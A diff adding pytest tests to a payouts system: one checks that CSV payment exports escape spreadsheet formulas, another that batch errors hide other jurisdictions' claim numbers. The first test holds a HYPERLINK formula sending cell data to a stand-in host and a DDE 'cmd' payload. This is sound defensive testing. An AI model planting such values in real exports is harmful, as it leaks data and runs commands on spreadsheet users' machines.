@@ -82,6 +82,20 @@ def test_the_payment_file_lists_payee_account_amount_currency_reference(payouts,
     assert batch.exported_at is not None
 
 
+def test_the_payment_file_guards_payee_accounts_against_spreadsheet_formulas(payouts, ir, make):
+    # The schemas refuse such accounts, but rows also arrive through imports and older versions: the file guards them.
+    banked = make.owner(ir.clerk, ir.office, name="Rahim Asadi")
+    operations.set_payout_account(banked, {"method": PaymentMethod.BANK, "bank_name": "Bank Melli",
+                                           "account_number": '=HYPERLINK("http://x.example/?"&A1,"IBAN")'}, ir.clerk)
+    phoned = make.owner(ir.clerk, ir.office, name="Zahra Karimi", phone="+98 915 555 0102")
+    phoned.phone = "+1+cmd|' /C calc'!A0"
+    payouts.approved(ir, owner=banked, **DAY)
+    payouts.approved(ir, owner=phoned, incident_at=utcnow() - timedelta(days=5), **DAY)
+    batch = payouts.batch(ir)
+    accounts = [row[1] for row in csv.reader(io.StringIO(operations.payment_file(batch, ir.manager)))][1:]
+    assert accounts == ['\'=HYPERLINK("http://x.example/?"&A1,"IBAN")', "'+1+cmd|' /C calc'!A0"]
+
+
 def test_confirming_pays_the_claim_once(payouts, ir):
     claim = payouts.approved(ir, **DAY)
     batch = payouts.batch(ir)
@@ -180,3 +194,14 @@ def test_batches_of_any_programme_in_ones_jurisdiction_are_visible(payouts, ir, 
     assert [b.id for b in queries.batches_page(ir.auditor).items] == [batch.id]
     with pytest.raises(NotFound):
         queries.get_batch(batch.id, payouts.world.am.manager)
+
+
+def test_batch_errors_name_only_the_claims_the_manager_may_see(payouts, ir, world):
+    payouts.rates(world.am)
+    foreign = payouts.approved(world.am, **DAY)
+    mine = payouts.approved(ir, **DAY)
+    payouts.batch(ir, claims=[mine], approver=False)
+    with pytest.raises(Conflict) as refused:
+        payouts.batch(ir, claims=[mine, foreign], approver=False)
+    assert mine.number in refused.value.message and f"#{foreign.id}" in refused.value.message
+    assert foreign.number not in refused.value.message
